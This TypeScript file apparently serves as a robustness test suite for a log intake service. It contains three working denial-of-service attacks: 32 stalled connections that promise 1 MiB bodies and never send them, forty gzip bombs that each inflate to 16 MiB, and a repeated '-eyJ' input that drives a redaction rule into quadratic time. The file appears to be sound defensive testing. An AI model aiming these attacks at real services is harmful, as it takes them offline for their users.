/** Attacks on the intake. */
import { connect, type Socket } from 'node:net'
import { gzipSync } from 'node:zlib'
import { type Attack, type Target, tally, watched } from './target.ts'

const CONNECTIONS = 32
const GIVE_UP_MS = 25_000

const deliver = ({ baseUrl, publicKey }: Target, body: BodyInit) =>
  fetch(`${baseUrl}/intake/k/${publicKey}/webhook`, { method: 'POST', body })

/** 32 connections with a valid key state 1 MiB and send nothing; deliveries go on beside them. */
export const stalled: Attack = async (target) => {
  const { hostname, port } = new URL(target.baseUrl)
  const started = performance.now()
  const ends = Array.from({ length: CONNECTIONS }, () => stalledConnection(hostname, Number(port), target.publicKey))
  await new Promise((resolve) => setTimeout(resolve, 500))
  const statuses: number[] = []
  for (let i = 0; i < 20; i += 1) {
    const response = await deliver(target, `a line beside the attack, ${i}`)
    await response.arrayBuffer()
    statuses.push(response.status)
  }
  console.log(`Deliveries beside ${CONNECTIONS} stalled connections: ${tally(statuses)}`)
  console.log(`The stalled ones: ${tally(await Promise.all(ends))}`)
  console.log(`The last of them ended after ${((performance.now() - started) / 1000).toFixed(1)} s.`)
}

function stalledConnection(host: string, port: number, key: string): Promise<string> {
  return new Promise((resolve) => {
    const socket: Socket = connect(port, host, () => {
      socket.write(`POST /intake/k/${key}/webhook HTTP/1.1\r\nhost: ${host}\r\ncontent-length: 1048576\r\n\r\n`)
    })
    const end = (outcome: string) => {
      clearTimeout(timer)
      socket.destroy()
      resolve(outcome)
    }
    const timer = setTimeout(() => end('still open'), GIVE_UP_MS)
    socket.once('data', (data) => end(data.toString('latin1').split(' ')[1] ?? 'unreadable'))
    socket.once('close', () => end('closed'))
    socket.once('error', () => end('closed'))
  })
}

const BOMBS = 40
const BOMB_BYTES = 16 * 1024 * 1024

/** 40 bodies of 16 KB without a key, each 16 MiB of empty objects when inflated. */
export const keyless: Attack = async (target) => {
  const inflated = `{"resourceLogs":[${'{},'.repeat(BOMB_BYTES / 3 - 20)}{}]}`
  const body = new Uint8Array(gzipSync(inflated))
  console.log(`Each body: ${body.length} bytes, ${inflated.length} inflated.`)
  const headers = { 'content-type': 'application/json', 'content-encoding': 'gzip' }
  const send = () => fetch(`${target.baseUrl}/intake/v1/logs`, { method: 'POST', headers, body })
  const statuses = await watched(target, () =>
    Promise.all(Array.from({ length: BOMBS }, async () => (await send()).status)),
  )
  console.log(`Answers: ${tally(statuses)}`)
}

/** A line that made a built-in redaction rule quadratic. */
export const redaction: Attack = async (target) => {
  for (const units of [20_000, 80_000]) {
    const body = JSON.stringify({ message: `token ${'-eyJ'.repeat(units)}` })
    const started = performance.now()
    const { status } = await watched(target, () => deliver(target, body))
    console.log(`-eyJ ×${units}: ${status} after ${(performance.now() - started).toFixed(0)} ms`)
  }
}
